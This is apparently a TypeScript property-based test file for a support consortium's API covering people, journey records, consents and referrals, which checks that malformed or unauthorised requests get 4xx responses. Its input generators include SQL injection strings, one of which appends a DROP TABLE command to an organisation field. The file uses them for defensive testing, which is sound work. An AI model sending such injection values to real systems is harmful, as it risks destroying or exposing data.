  const referralRequest = (): BodySpec => {
    const c0 = c.consortium;
    const organisations = [...c0.partners.map((p) => p.id), ...c0.statutoryBodies.map((b) => b.id)];
    return {
      fine: {
        personRef: fc.constant(personRef),
        toOrganisation: fc.constantFrom(...organisations.filter((o) => o !== 'fresh-start')),
        reason: wordsField('Wants to get back into football'),
      },
      wrong: {
        personRef: fc.oneof(
          fc.stringMatching(REF).filter((r) => r !== personRef),
          hostileString.filter((s) => !REF.test(s)),
          fc.constantFrom(personRef.toLowerCase(), ` ${personRef}`, `${personRef}' OR '1'='1`),
          notAString,
          fc.constant(MISSING),
        ),
        toOrganisation: fc.oneof(
          // Unknown organisations, and Fresh Start itself (no partner refers to itself)
          notOneOf(organisations),
          fc.constantFrom('fresh-start', 'Spartans', 'evil-corp', "spartans'; DROP TABLE events; --"),
          fc.constant(MISSING),
        ),
        reason: wrongText(2000),
      },
      required: ['personRef', 'toOrganisation', 'reason'],
    };
  };

  // Fresh Start may only cancel (or mark entered-in-error) the referral it made, and must say why
  const statusChange = (): BodySpec => ({
    fine: {
      status: fc.constantFrom('cancelled', 'entered-in-error'),
      reason: wordsField('The person moved away'),
    },
    wrong: {
      status: fc.oneof(
        fc.constantFrom(...REFERRAL_STATUSES.filter((s) => s !== 'cancelled' && s !== 'entered-in-error')),
        notOneOf(REFERRAL_STATUSES),
        fc.constant(MISSING),
      ),
      reason: fc.oneof(notAString, blank, tooLong(2000), fc.constant(MISSING)),
    },
    required: ['status', 'reason'],
  });

  const journey = (record: string) => (ref: string) => `/people/${ref}/journey/${record}`;

  // The endpoints -------------------------------------------------------------------------------------------

  it(
    `POST /people: ${RUNS} bad registrations each get a useful 4xx and no one is registered`,
    async () => {
      await everyOneRefused(atFreshStart('POST', () => '/people', registration()));
    },
    TIMEOUT,
  );

  it(
    `POST /people/lookup: ${RUNS} bad look-ups each get a useful 4xx`,
    async () => {
      await everyOneRefused(atFreshStart('POST', () => '/people/lookup', identifiers()));
    },
    TIMEOUT,
  );

  it(
    `POST /people/{ref}/arrival: ${RUNS} bad arrivals each get a useful 4xx and no one is welcomed`,
    async () => {
      await everyOneRefused(
        atFreshStart('POST', (r) => `/people/${r}/arrival`, identifiers(), { hostileRefs: true }),
      );
    },
    TIMEOUT,
  );

  it(
    `PUT /people/{ref}/what-matters: ${RUNS} bad revisions each get a useful 4xx and nothing is revised`,
    async () => {
      await everyOneRefused(
        atFreshStart('PUT', (r) => `/people/${r}/what-matters`, whatMatters(), { hostileRefs: true }),
      );
    },
    TIMEOUT,
  );

  const records: [string, () => BodySpec][] = [
    ['contacts', contactRecord],
    ['support', supportRecord],
    ['life-system', lifeSystem],
    ['reflections', reflection],
    ['outcomes', outcome],
  ];
  for (const [record, spec] of records) {
    it(
      `POST /people/{ref}/journey/${record}: ${RUNS} bad records each get a useful 4xx and nothing is recorded`,
      async () => {
        await everyOneRefused(atFreshStart('POST', journey(record), spec(), { hostileRefs: true }));
      },
      TIMEOUT,
    );
  }

  it(
    `POST /people/{ref}/journey/wellbeing: switched off in this consortium, ${RUNS} records, good or bad, each get 404`,
    async () => {
      expect(c.consortium.wellbeing.swemwbs.enabled).toBe(false);
      const wellbeing: BodySpec = {
        fine: {
          occurredAt: pastMoment(),
          items: fc.array(fc.integer({ min: 1, max: 5 }), { minLength: 7, maxLength: 7 }),
        },
        wrong: {
          occurredAt: wrongOccurredAt(),
          items: fc.oneof(
            notAnArray,
            fc.array(fc.integer({ min: 1, max: 5 }), { maxLength: 6 }),
            fc.array(notANumber, { minLength: 7, maxLength: 7 }),
          ),
        },
        required: ['occurredAt', 'items'],
      };
      const attempts = fc.oneof(
        atFreshStart('POST', journey('wellbeing'), wellbeing, { hostileRefs: true }),
        // Even a good record: the consortium has not switched the measure on
        fineBody(wellbeing).map(
          (b): Attempt => ({
            at: 'fresh-start',
            as: 'fresh-start',
            method: 'POST',
            path: journey('wellbeing')(personRef),
            payload: b,
          }),
        ),
      );
      await everyOneRefused(attempts, (a, r) => {
        // Bodies the server cannot read, and paths it cannot decode, are refused before any route is found
        const readable =
          a.payload.kind === 'none' ||
          (a.payload.kind === 'json' &&
            typeof a.payload.body === 'object' &&
            a.payload.body !== null &&
            Buffer.byteLength(JSON.stringify(a.payload.body)) < 250_000);
        const decodable = a.path.split('/').every((part) => {
          try {
            decodeURIComponent(part);
            return true;
          } catch {
            return false;
          }
        });
        if (readable && decodable && r.status !== 404)
          throw new Error(`wellbeing answered ${r.status}, not 404: ${JSON.stringify(r.body)}`);
      });
    },
    TIMEOUT,
  );

  it(
    `POST /people/{ref}/consents: ${RUNS} bad consents (unknown partners, wrong purposes, ending before they start) each get a useful 4xx`,
    async () => {
      await everyOneRefused(
        atFreshStart('POST', (r) => `/people/${r}/consents`, consent(), { hostileRefs: true }),
      );
    },
    TIMEOUT,
  );

  it(
    `POST /people/{ref}/consents/{id}/withdrawal: ${RUNS} withdrawals of consents that are not there each get a useful 4xx and the consent stands`,
    async () => {
      const path = (ref: string, id: string) => `/people/${ref}/consents/${id}/withdrawal`;
      const anyPayload = fc.oneof(fc.constant<Payload>({ kind: 'none' }), badPayload(whatMatters()));
      const attempt = (ref: string, id: string, payload: Payload, as: Partner = 'fresh-start'): Attempt => ({
        at: 'fresh-start',
        as,
        method: 'POST',
        path: path(ref, id),
        payload,
      });
      const attempts = fc.oneof(
        {
          weight: 6,
          arbitrary: fc
            .tuple(wrongId(consentId), anyPayload)
            .map(([id, p]) => attempt(segment(personRef), id, p)),
        },
        {
          weight: 4,
          arbitrary: fc
            .tuple(wrongPersonRef(personRef), anyPayload)
            .map(([ref, p]) => attempt(ref, consentId, p)),
        },
        {
          weight: 2,
          arbitrary: fc
            .tuple(wrongPersonRef(personRef), wrongId(consentId), anyPayload)
            .map(([ref, id, p]) => attempt(ref, id, p)),
        },
        // The right consent, but a body that is not JSON: refused before anything is done
        { weight: 1, arbitrary: notJson.map((s) => attempt(segment(personRef), consentId, raw(s))) },
        // The right consent, by another partner's worker
        {
          weight: 1,
          arbitrary: anyPayload.map((p) => attempt(segment(personRef), consentId, p, 'spartans')),
        },
      );
      await everyOneRefused(attempts);
    },
    TIMEOUT,
  );

  it(
    `POST /referrals: ${RUNS} bad referrals (unknown people and organisations, no reason) each get a useful 4xx`,
    async () => {
      await everyOneRefused(atFreshStart('POST', () => '/referrals', referralRequest()));
    },
    TIMEOUT,
  );

  it(
    `POST /referrals/{id}/status: ${RUNS} bad status changes each get a useful 4xx and the referral stays requested`,
    async () => {
      const spec = statusChange();
      const attempt = (id: string, payload: Payload, as: Partner = 'fresh-start'): Attempt => ({
        at: 'fresh-start',
        as,
        method: 'POST',
        path: `/referrals/${id}/status`,
        payload,
      });
      const attempts = fc.oneof(
        { weight: 12, arbitrary: badPayload(spec).map((p) => attempt(referralId, p)) },
        {
          weight: 4,
          arbitrary: fc.tuple(wrongId(referralId), fineBody(spec)).map(([id, p]) => attempt(id, p)),
        },
        {
          weight: 2,
          arbitrary: fc.tuple(wrongId(referralId), badPayload(spec)).map(([id, p]) => attempt(id, p)),
        },
        { weight: 1, arbitrary: fineBody(spec).map((p) => attempt(referralId, p, 'spartans')) },
      );
      await everyOneRefused(attempts);
    },
    TIMEOUT,
  );

  it(
    `POST /referrals/{id}/acceptance: ${RUNS} acceptances of referrals not in the inbox, or by the wrong partner, each get a useful 4xx`,
    async () => {
      const anyPayload = fc.oneof(fc.constant<Payload>({ kind: 'none' }), badPayload(statusChange()));
      const attempt = (at: Partner, as: Partner, id: string, payload: Payload): Attempt => ({
        at,
        as,
        method: 'POST',
        path: `/referrals/${id}/acceptance`,
        payload,
      });
      const attempts = fc.oneof(
        // At Spartans, by Spartans: referrals that are not there
        {
          weight: 8,
          arbitrary: fc
            .tuple(wrongId(referralId), anyPayload)
            .map(([id, p]) => attempt('spartans', 'spartans', id, p)),
        },
        // At Spartans, by Spartans, the right referral, but a body that is not JSON: refused before anything is done
        { weight: 2, arbitrary: notJson.map((s) => attempt('spartans', 'spartans', referralId, raw(s))) },
        // At Fresh Start, by Fresh Start: the referrer cannot accept its own referral
        { weight: 3, arbitrary: anyPayload.map((p) => attempt('fresh-start', 'fresh-start', referralId, p)) },
        {
          weight: 2,
          arbitrary: fc
            .tuple(wrongId(referralId), anyPayload)
            .map(([id, p]) => attempt('fresh-start', 'fresh-start', id, p)),
        },
        // At Spartans, by Fresh Start's worker (and the other way round): nobody answers for another partner
        { weight: 3, arbitrary: anyPayload.map((p) => attempt('spartans', 'fresh-start', referralId, p)) },
        { weight: 1, arbitrary: anyPayload.map((p) => attempt('fresh-start', 'spartans', referralId, p)) },
      );
      await everyOneRefused(attempts);
    },
    TIMEOUT,
  );
});
